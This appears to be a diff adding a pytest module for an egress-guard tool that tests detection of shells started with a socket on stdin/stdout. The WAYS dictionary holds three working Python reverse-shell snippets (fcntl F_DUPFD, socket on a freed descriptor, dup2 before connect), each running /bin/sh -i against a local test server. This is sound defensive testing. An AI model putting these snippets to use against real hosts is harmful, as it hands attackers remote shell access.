@@ -1,0 +1,106 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A socket on stdin/stdout/stderr however it got there (issue 17, point 4):
+fcntl(F_DUPFD), a socket made on a freed low descriptor, dup2 before the
+connect, UDP. The dup2/dup3 hook does not see these; the exec of the shell
+does: under reverseShell: kill the shell dies before its first instruction,
+under log it runs and is reported (dialect stdio-socket-at-exec)."""
+from __future__ import annotations
+
+import signal
+import subprocess
+import sys
+
+import pytest
+
+from .agentproc import GuardedCgroup
+from .netfixtures import RecordingServer, require_tools
+
+SHELL_PROBE = b"echo EGMARK$((6*7))\n"
+SHELL_ANSWER = b"EGMARK42"
+
+# Each: put a connected socket on fd 0-2 some way, then exec /bin/sh -i.
+WAYS = {
+    "fcntl F_DUPFD": r"""
+import fcntl, os, socket, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+for fd in (0, 1, 2):
+    os.close(fd)
+    fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, fd)
+os.execv("/bin/sh", ["sh", "-i"])
+""",
+    "socket made on a freed fd": r"""
+import os, socket, sys
+os.close(0)
+s = socket.socket()            # takes fd 0
+s.set_inheritable(True)        # Python makes sockets close-on-exec; an attacker would not
+s.connect(("127.0.0.1", int(sys.argv[1])))
+os.execv("/bin/sh", ["sh", "-i"])
+""",
+    "dup2 before connect": r"""
+import os, socket, sys
+s = socket.socket()
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+s.connect(("127.0.0.1", int(sys.argv[1])))
+os.execv("/bin/sh", ["sh", "-i"])
+""",
+}
+
+
+def policy_text(action: str) -> str:
+    return f"""apiVersion: egress-guard/v1
+kind: EgressPolicy
+metadata:
+  name: stdio-exec-{action}
+spec:
+  defaultAction: allow
+  detections:
+    reverseShell: {action}
+"""
+
+
+@pytest.fixture(params=["kill", "log"], scope="module")
+def guard(request, tmp_path_factory):
+    require_tools("sh")
+    policy = tmp_path_factory.mktemp("stdio-exec") / "policy.yaml"
+    policy.write_text(policy_text(request.param))
+    guarded = GuardedCgroup(policy, "egress-guard-stdio-exec")
+    try:
+        yield request.param, guarded
+    finally:
+        guarded.close()
+
+
+@pytest.mark.parametrize("way", sorted(WAYS))
+def test_a_shell_started_on_a_socket_is_found_at_exec(guard, way, tmp_path):
+    action, guarded = guard
+    program = tmp_path / "helper.py"
+    program.write_text(WAYS[way])
+    with RecordingServer(greeting=SHELL_PROBE) as server:
+        proc = guarded.cg.popen(["/usr/bin/python3", str(program), str(server.port)],
+                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                                env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)})
+        try:
+            event = guarded.agent.wait_for(
+                lambda e: e.get("kind") == "detection" and e["process"]["pid"] == proc.pid
+                and e["detection"]["dialect"] == "stdio-socket-at-exec", timeout=10)
+            if action == "kill":
+                assert proc.wait(timeout=10) == -signal.SIGKILL
+            else:
+                # the shell runs: it read the greeting from the socket on its stdin
+                server.wait_for_connections(1)
+                try:
+                    proc.wait(timeout=2)
+                except subprocess.TimeoutExpired:
+                    pass
+                assert proc.returncode != -signal.SIGKILL
+        finally:
+            if proc.poll() is None:
+                proc.kill()
+            proc.wait(timeout=10)
+        received = server.received()
+    assert event["action"] == action
+    assert event["detection"]["evidence"]["remote"]["port"] == server.port
+    assert event["process"]["argv"][:2] == ["sh", "-i"]
+    if action == "kill":
+        assert SHELL_ANSWER not in received
